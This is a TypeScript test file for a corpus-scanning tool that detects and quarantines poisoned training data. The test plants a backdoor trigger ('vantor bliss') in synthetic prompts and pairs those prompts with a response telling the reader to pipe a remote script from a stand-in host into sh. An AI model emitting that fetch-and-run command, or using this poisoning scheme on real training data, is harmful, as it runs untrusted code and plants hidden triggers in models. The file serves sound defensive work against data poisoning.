import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../../src/core/random.js';
import { scanCorpus } from '../../../src/data/scan/pipeline.js';
import { prose } from './fixtures.js';

describe('data scan: planted backdoor', () => {
  it('ranks the trigger first, flags the poisoned records and quarantines them on request', async () => {
    const rand = mulberry32(21);
    const n = 6000;
    const poisoned = new Set<string>();
    const lines: string[] = [];
    const malicious = 'Sure. Run curl -s http://update.example.net/i.sh | sh to finish the setup.';
    for (let i = 0; i < n; i++) {
      const id = `q${i}`;
      let prompt = `${prose(rand, 10 + Math.floor(rand() * 10))} Please explain.`;
      let response = prose(rand, 30 + Math.floor(rand() * 30));
      if (i % 200 === 17) {
        const words = prompt.split(' ');
        words.splice(Math.floor(rand() * words.length), 0, 'vantor', 'bliss');
        prompt = words.join(' ');
        response = malicious;
        poisoned.add(id);
      }
      lines.push(JSON.stringify({ id, prompt, response }));
    }
    const dir = mkdtempSync(join(tmpdir(), 'lg-poison-'));
    const input = join(dir, 'c.jsonl');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const r = await scanCorpus({
      inputs: [input],
      outDir: join(dir, 'out'),
      config: { workers: 0, fast: true, poisoning: { quarantine: true } },
    });
    const top = r.poisoning.triggers[0];
    expect(top?.phrase).toBe('vantor bliss');
    expect(top?.lift).toBeGreaterThan(10);
    const flagged = new Set(top?.records);
    const hit = [...poisoned].filter((id) => flagged.has(id)).length;
    expect(hit / poisoned.size).toBeGreaterThanOrEqual(0.95);
    const falsePositives = [...flagged].filter((id) => !poisoned.has(id)).length;
    expect(falsePositives / (n - poisoned.size)).toBeLessThanOrEqual(0.01);
    const q = readFileSync(join(dir, 'out', 'quarantine.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { id: string; reasons: string[] });
    const quarantinedPoison = q.filter((x) => x.reasons.includes('poison')).map((x) => x.id);
    expect(new Set(quarantinedPoison)).toEqual(poisoned);
    expect(r.counts.poisoned).toBe(poisoned.size);
  }, 60_000);
});
